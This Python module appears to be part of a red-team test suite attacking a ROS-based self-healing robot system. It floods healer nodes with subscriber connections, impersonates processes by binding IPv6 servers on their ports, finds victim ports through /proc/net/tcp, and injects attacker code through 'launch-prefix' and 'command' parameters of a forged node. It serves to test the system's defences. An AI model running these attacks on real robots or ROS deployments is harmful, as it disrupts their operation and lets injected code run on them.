"""Attacks by publishers and subscribers that are not what they say."""
import http.client
import itertools
import os
import socket
import subprocess
import sys
import threading
import time
from contextlib import suppress
from pathlib import Path
from typing import Any, Callable, List
from xmlrpc.server import SimpleXMLRPCServer

from shsa_msgs.msg import Float64Stamped, Health, Substitutions

from redteam_attacks.target import ERRORS, HEALERS, Target, framed, header
from shsa_testing.raw_publisher import RawPublisher


def subscribers(target: Target, end: float) -> int:
    """Subscribe 1,000 times to what healing publishes, and never read."""
    said = {
        "/monitor": ("/shsa/health", Health),
        "/reconfigurator": ("/shsa/substitutions", Substitutions),
    }
    opened: List[socket.socket] = []
    count = 0

    while time.monotonic() < end:
        for node in HEALERS:
            topic, kind = said[node]
            fields = {"topic": topic, "type": kind._type}
            fields.update(callerid=f"/s{count}", md5sum=kind._md5sum)
            with suppress(*ERRORS):
                opened.append(socket.create_connection(target.data(node), 1.0))
                opened[-1].sendall(header(fields))
            count += 1
        while len(opened) > 1000:
            opened.pop(0).close()
        time.sleep(0.005)
    return count


def families(target: Target, end: float) -> int:
    """Answer in IPv6 where processes of the robot do in IPv4: with their numbers, as publishers."""
    victims = [_port_of(target.innocent), *(target.address(each)[1] for each in HEALERS)]
    count = 0
    publishers = []
    for number, port in enumerate(filter(None, victims)):
        name = f"/evil_{number}"
        bad = RawPublisher("/warm", name, Float64Stamped(data=10.0))
        api = _SixServer(("::1", port), logRequests=False, allow_none=True)
        pid: Callable[..., Any] = lambda caller: [1, "", target.innocent]
        api.register_function(pid, "getPid")
        request: Callable[..., Any] = bad._request_topic
        api.register_function(request, "requestTopic")
        topics: Callable[..., Any] = lambda caller: [1, "", [["/warm", Float64Stamped._type]]]
        api.register_function(topics, "getPublications")
        threading.Thread(target=api.serve_forever, daemon=True).start()
        bad.uri = f"http://localhost:{port}/"
        publishers.append((name, bad))
    value = itertools.cycle([10.0, 1e6])
    while not count or time.monotonic() < end:
        for name, bad in publishers:
            frame = Float64Stamped(data=next(value))
            with suppress(*ERRORS):
                bad.register(name)
                bad.tell("/monitor")
            bad._frame = framed(frame)
            count += 1
        time.sleep(0.5)
    return count


class _SixServer(SimpleXMLRPCServer):
    address_family = socket.AF_INET6


def _port_of(pid: int) -> int:
    """Return the port at which a process of another listens: by its words, or by looking."""
    for row in Path("/proc/net/tcp").read_text().splitlines()[1:]:
        _, here, _, state, *_ = row.split()
        uid = int(row.split()[7])
        if state == "0A" and uid == 4001:
            with suppress(*ERRORS):
                port = int(here.split(":")[1], 16)
                probe = http.client.HTTPConnection("127.0.0.1", port, timeout=0.5)
                probe.request("GET", "/")
                if "SimpleHTTP" in (probe.getresponse().getheader("Server") or ""):
                    return port
    return 0


def restarts(target: Target, end: float) -> int:
    """Be the node that is started again: by its name, with our words, and its parameters ours."""
    count = 0
    while time.monotonic() < end:
        bad = RawPublisher("/again", "/again_node", Float64Stamped(data=10.0))
        pid: Callable[..., Any] = lambda caller: [1, "", (target.innocent, os.getpid())[count % 2]]
        bad._api.register_function(pid, "getPid")
        topics: Callable[..., Any] = lambda caller: [1, "", [["/again", Float64Stamped._type]]]
        bad._api.register_function(topics, "getPublications")
        with suppress(*ERRORS):
            bad.register("/again_node")
            bad.tell("/monitor")
        for name in ("value", "topic", "command", "launch-prefix"):
            with suppress(*ERRORS):
                target.master.setParam(f"/again_node/{name}", target.code)
        time.sleep(3.0)
        bad._frame = framed(Float64Stamped(data=1e6))
        time.sleep(1.0)
        bad.close()
        count += 1
    return count


def messages(target: Target, end: float) -> int:
    """Say what healing alone may say: forged, wrongly signed, repeated, and much of it."""
    stranger = Path(__file__).resolve().parents[3] / "shsa_core/test/rostest/stranger"
    began = time.monotonic()
    process = subprocess.Popen([sys.executable, str(stranger), "/idle"], stdout=subprocess.DEVNULL)
    time.sleep(max(0.0, end - time.monotonic()))
    process.kill()
    process.wait()
    return int((time.monotonic() - began) / 0.05) * 14
